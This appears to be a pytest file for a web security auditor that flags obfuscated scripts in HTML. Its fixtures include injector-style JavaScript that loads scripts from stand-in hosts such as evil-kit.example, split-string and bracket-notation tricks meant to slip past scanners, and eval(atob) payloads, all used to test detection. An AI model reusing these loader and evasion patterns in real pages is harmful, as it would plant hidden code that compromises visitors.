    its string (the unpacked code holds one)."""
    return "".join(f"\\\\u{ord(c):04x}" for c in word)


def _theme_page(bundle: str) -> str:
    return ('<!DOCTYPE html><html lang="en-GB"><head><meta charset="UTF-8"><title>Ferry '
            'timetable</title></head><body class="single"><article><h1>Ferry timetable</h1>'
            '<p>The ferry runs at nine from the north quay.</p></article>'
            f'<script id="harbourline-js">{bundle}</script></body></html>')


@pytest.mark.parametrize(("plugin", "expected"), [
    (EASING, []),  # the easing equations: arithmetic on the page's own animation
    (SLIDER, []),  # a slider: fades the element's own children
    # the same wrapper over a redirect, a loader, a popup and markup that loads: findings
    ("if(document.referrer.indexOf('google')>-1){window.location='/'+'go/'+'x'}",
     [("obfuscated-script", "medium")]),
    ("var d=document,s=d.createElement('script');s.async=1;s.src=d.body.dataset.cdn+"
     "'/x.js';d.head.appendChild(s);", [("obfuscated-script", "medium")]),
    ("jQuery(document).one('click',function(){open(jQuery('body').data('u'))});",
     [("obfuscated-script", "medium")]),
    ("jQuery('body').append('<img src=' + jQuery('body').data('u') + '>');",
     [("obfuscated-script", "medium")]),
    (LOADER, [("obfuscated-script", "high")]),
    # words split so no pattern reads them: a loader whose address the packed code joins
    # (it was no finding), one joining its attribute's name, a redirect by a split name
    ("var d=document,s=d.createElement('sc'+'ript');s['sr'+'c']='ht'+'tps:/'+'/cdn.fresh-"
     "kit.example/x.js';d.getElementsByTagName('head')[0].appendChild(s);",
     [("obfuscated-script", "high")]),
    ("var d=document;var s=d.createElement('sc'+'ript');s.setAttribute('sr'+'c',['https:',"
     "'','lines.fresh-kit.example','x.js'].join('/'));d.head.appendChild(s);",
     [("obfuscated-script", "medium")]),
    ("window['loc'+'ation']['hr'+'ef']=['https:','','go.fresh-kit.example','in'].join('/');",
     [("obfuscated-script", "medium")]),
    # names in brackets, as kits write them past a scanner looking for `.createElement(`
    ("var d=document,s=d['createElement']('script');s['src']=['https:','','evil-kit.example',"
     "'x.js'].join('/');d['head']['appendChild'](s);", [("obfuscated-script", "medium")]),
    # an image lazy loader: each image's address from its own data attribute
    ("var imgs=[].slice.call(document.querySelectorAll('[data-src]'));imgs.forEach(function"
     "(img){img.src=img.getAttribute('data-src');img.removeAttribute('data-src')});"
     "var f=document.querySelector('.owl img');if(f){f.src=f.dataset.src}", []),
    # the same move into a script the code creates loads code: a finding still
    ("var d=document,s=d.createElement('script');s.src=d.body.getAttribute('data-u');"
     "d.head.appendChild(s);", [("obfuscated-script", "medium")]),
    # ... or into an element made by a name in a variable (no literal 'script' to read):
    # the address is another element's attribute, not the element's own
    ("var k=['scr','ipt'].join(''),m=document.querySelector('[data-u]'),s=document."
     "createElement(k);s.src=m.dataset.u;document.head.appendChild(s);",
     [("obfuscated-script", "medium")]),
    ("var k=['ifr','ame'].join(''),m=document.body,s=document.createElement(k);"
     "s.src=m.getAttribute('data-u');m.appendChild(s);", [("obfuscated-script", "medium")]),
    # ... or copied into the made element's own data first: a lazy loader makes and
    # inserts nothing, it fills the page's images
    ("var k=['scr','ipt'].join(''),m=document.querySelector('[data-u]'),s=document."
     "createElement(k);s.dataset.u=m.dataset.u;s.src=s.dataset.u;document.head.append(s);",
     [("obfuscated-script", "medium")]),
    # a site's domain lock: the page's host name compared with its own, names and host
    # escaped, only a flag set (a licence check, as the decoder's own tables allow)
    ('if(window["' + _escaped("location") + '"]["' + _escaped("hostname") + '"]==="'
     + _escaped("harbour.example") + '"){var a=true}', []),
    ("if('harbour.example'!=window.location.host){var a=false}", []),
    # ... and one that sends a copy elsewhere, or loads, stays a finding
    ('if(window["' + _escaped("location") + '"]["' + _escaped("hostname") + '"]!=="'
     + _escaped("harbour.example") + '"){window["' + _escaped("location") + '"]="/"+"x"}',
     [("obfuscated-script", "medium")]),
    ("if(location.hostname!=='harbour.example'){var d=document,s=d.createElement('script');"
     "s.src=d.body.dataset.u;d.head.appendChild(s)}", [("obfuscated-script", "medium")]),
], ids=["easing", "slider", "redirect", "computed loader", "popup", "markup", "loader",
        "split loader", "split attribute", "split location", "bracketed loader",
        "lazy loader", "lazy-style loader of a script", "another element's data into a made one",
        "the body's data into a made frame", "data copied into a made element's own",
        "escaped domain lock", "domain lock", "domain lock redirecting",
        "domain lock loading"])
def test_a_packed_plugin_in_a_theme_bundle(audit_html: AuditHtml, plugin: str,
                                           expected: list[tuple[str, str]]) -> None:
    """A packed plugin whose code only works on the page's own elements is a theme's, no
    obfuscation (it was `medium`); packed code that navigates, loads, opens or writes
    loading markup stays a finding, and one that loads another site's script stays high."""
    report = audit_html(_theme_page(THEME + packed62(plugin)),
                        url="https://harbour.example/2024/ferry/")
    assert [(f.kind, f.severity.value) for f in report.findings] == expected


def test_two_packed_blocks_are_read_as_one_unread() -> None:
    """`unpack` reads a script's first block only: a second one is unread, so a bundle of
    two packed blocks is judged as obfuscated whatever the first holds."""
    two = packed62(EASING) + ";" + packed62(LOADER)
    assert deobfuscate.decode_script(two).unpacked is None
    assert deobfuscate.decode_script(packed62(EASING)).unpacked == EASING


def test_a_packed_plugin_is_unpacked_once(audit_html: AuditHtml,
                                          monkeypatch: pytest.MonkeyPatch) -> None:
    """The decoding's unpacked code is what `_packed_plugin` judges: the block is not
    unpacked a second time to be judged."""
    calls: list[str] = []

    def counted(code: str) -> str | None:
        calls.append(code)
        return unpack(code)

    monkeypatch.setattr(deobfuscate, "unpack", counted)
    report = audit_html(_theme_page(THEME + packed62(EASING)),
                        url="https://harbour.example/2024/ferry/")
    assert [f.kind for f in report.findings] == [] and len(calls) == 1


# a site's own script hands its app a list of numbers through eval(atob(…)): the decoded
# code only builds values (no URL, no markup, no write, no request, no call of its own)
INERT = "window.q = new Array();\n" + "".join(f"window.q.push(0x{n:x});\n"
                                              for n in (70001, 2048, 99001, 512))


@pytest.mark.parametrize(("decoded", "severity"), [
    (INERT, None),  # inert: only values, no finding
    (LOADER, "high"),  # an injector's loader: its host named nowhere else
    # the same value-building form, but the values reach the page: a DOM write, a cookie,
    # a call of the page's own code, a timer, markup
    (INERT + "document.body.innerHTML += window.q.join(',');", "medium"),
    (INERT + "document.cookie = 'q=' + window.q.join('.');", "medium"),
    (INERT + "app.track(window.q);", "medium"),
    (INERT + "setTimeout(function(){ window.q.pop(); }, 10);", "medium"),
    ("window.q = '<div class=x></div>';", "medium"),
    ("window.q = window[['ev', 'al'].join('')];", "medium"),
], ids=["inert", "loader", "dom-write", "cookie", "page-call", "timer", "markup", "computed"])
def test_an_inert_eval_atob_payload_is_no_finding(audit_html: AuditHtml, decoded: str,
                                                  severity: str | None) -> None:
    """What an encoded payload run by eval reads as: nothing when it only builds values,
    medium or high as soon as it reaches the page, the network or the page's code."""
    report = audit_html(f"<html><body><p>Text.</p><script>eval(atob('{b64(decoded)}'));"
                        "app.start(true);</script></body></html>", url="https://news.example/a")
    assert [f.severity.value for f in report.findings
            if f.kind == "obfuscated-script"] == ([severity] if severity else [])


def test_an_inert_payload_is_read_in_linear_time() -> None:
    """The call and sink scans of a decoded payload, on one long word and on many calls."""
    from tests.hostile.scaling import assert_linear, audit_seconds

    def seconds(n: int) -> float:
        payload = "window.q" + "a" * n + " = 1;" + "x.push(1);" * (n // 10)
        return audit_seconds(f"<html><body><script>eval(atob('{b64(payload)}'));"
                             "</script></body></html>")

    assert_linear(seconds, 40_000, "inert payload scan")


def test_an_inert_payload_beside_code_run_from_a_variable_stays(audit_html: AuditHtml) -> None:
    """An inert literal does not clear the script when eval also runs a string the decoding
    did not read (a variable's): what was not read cannot be said to be harmless."""
    code = f"eval(atob('{b64(INERT)}')); var k = location.hash.slice(1); eval(atob(k));"
    report = audit_html(f"<html><body><p>Text.</p><script>{code}</script></body></html>",
                        url="https://news.example/a")
    assert [f.kind for f in report.findings] == ["obfuscated-script"]


# an inert-looking payload whose values the page's visible code then runs or loads: the
# pieces of an address the same script joins into a new script's src, a list of char codes
# another script turns into code and evals, the pieces another script joins into a src
_PIECES = 'var u = ["ht", "tps:", "/", "/cdn.k7loader", ".test/x.js"];'
_CHARS = "var n = [" + ",".join(str(ord(c)) for c in
                                "document.write('<b>x</b>')") + "];"
_SCRIPT_TAG = ("var s = document.createElement('script'); s.src = u.join('');"
               " document.head.appendChild(s);")


@pytest.mark.parametrize("scripts", [
    f"<script>eval(atob('{b64(_PIECES)}')); {_SCRIPT_TAG}</script>",
    f"<script>eval(atob('{b64(_PIECES)}'));</script><script>{_SCRIPT_TAG}</script>",
    f"<script>eval(atob('{b64(_CHARS)}'));</script>"
    "<script>eval(String.fromCharCode.apply(null, n));</script>",
    f"<script>eval(atob('{b64(_CHARS)}'));</script>"
    "<script>(new Function(String.fromCharCode.apply(null, window.n)))();</script>",
    f"<script>eval(atob('{b64(_PIECES)}'));</script><script>var s = document.createElement"
    "('script'); s.setAttribute('src', u.join('')); document.head.appendChild(s);</script>",
    f"<script>eval(atob('{b64(_PIECES)}'));</script><script>jQuery.getScript(u.join(''));"
    "</script>",
], ids=["joined-into-src-beside", "joined-into-src-apart", "charcodes-evaled",
        "charcodes-to-function", "joined-into-setattribute-apart", "joined-into-getscript"])
def test_an_inert_payload_the_page_then_runs_or_loads_stays(audit_html: AuditHtml,
                                                            scripts: str) -> None:
    """A payload of values only is inert while nothing runs or loads them: the script
    beside it acting (a script element it writes) or a script naming one of its values
    as what it evals, turns into code or sets as an address keeps the finding."""
    report = audit_html(f"<html><body><p>Text.</p>{scripts}</body></html>",
                        url="https://news.example/a")
    assert [f.severity.value for f in report.findings
            if f.kind == "obfuscated-script"] == ["medium"]


def test_a_hidden_address_fetched_for_data_is_no_script_load() -> None:
    """fetch of a base64 address whose answer is read as JSON loads no code."""
    decoded = decode_script(f"fetch(atob('{b64('https://api.example/v1/cfg')}')).then(r=>"
                            "r.json()).then(c=>init(c));")
    assert not [u for u in decoded.urls if u.loaded and u.type is RequestType.SCRIPT]


def test_a_table_read_through_objects_of_indexes_is_resolved() -> None:
    """javascript-obfuscator's calls through an object of indexes (`g(V.w)`) read as
    literal calls do; a name two different objects share is left unread."""
    from auditor.dom.string_table import resolved

    table = ("function s(){var o=['src','createElement','head'];s=function(){return o;};"
             "return s();}function t(w,B){var J=s();return t=function(n,x){n=n-0x10;return J[n];"
             "},t(w,B);}(function(a,b){var c=function(d){while(--d){a['push'](a['shift']());}};"
             "c(++b);}(s,0x3));")
    code = table + "var V={w:0x11,B:'0x10'},d=document[t(V.w)]('script');d[t(V.B)]='/x.js';"
    assert resolved(code) is not None
    assert "document['createElement']('script')" in (resolved(code) or "")
    shared = code + "(function(){var V={w:0x12};document[t(V.w)];})();"
    assert resolved(shared) is None


_KEY_FIRST_PIECES = ["^", "^=", " ", "\n", "\u00a0", "2", "0x1f", "999", "k", "ab", "$", "_",
                     "é", ".", "(", ")", "a.charCodeAt(", "charCodeAt(", "s . charCodeAt(",
                     "0x1f ^ a.charCodeAt(", "key_2\t^ (s.charCodeAt(", "x.y ^ b.charCodeAt(",
                     "long_name_of_a_key  ^s.t.charCodeAt("]


@given(st.lists(st.sampled_from(_KEY_FIRST_PIECES), max_size=24))
def test_the_key_first_xor_led_by_its_caret_finds_what_its_pattern_finds(
        pieces: list[str]) -> None:
    """`_KeyFirstXor` searches from each `^`; `_KEY_FIRST.finditer`, which `re` tried at
    every word character, is its specification: the same matches at the same places."""
    code = "".join(pieces)
    led, at = [], 0
    while (m := deobfuscate._KeyFirstXor().search(code, at)) is not None:
        led.append((m.span(), m.groupdict()))
        at = m.end()
    assert led == [(m.span(), m.groupdict()) for m in deobfuscate._KEY_FIRST.finditer(code)]


def test_the_key_first_xor_is_sought_in_linear_time() -> None:
    """Carets whose tails read to a `.charCodeAt(` with no key before them, after long
    runs of word characters: each run is read once."""
    from tests.hostile.scaling import assert_linear

    def seconds(n: int) -> float:
        code = ("a" * 200 + ". ^ s.charCodeAt(i);") * (n // 220)
        start = time.perf_counter()
        assert list(deobfuscate.branch_matches(deobfuscate._XOR_CONSTANT, code)) == []
        return time.perf_counter() - start

    assert_linear(seconds, 1_000_000, "key-first XOR sites")
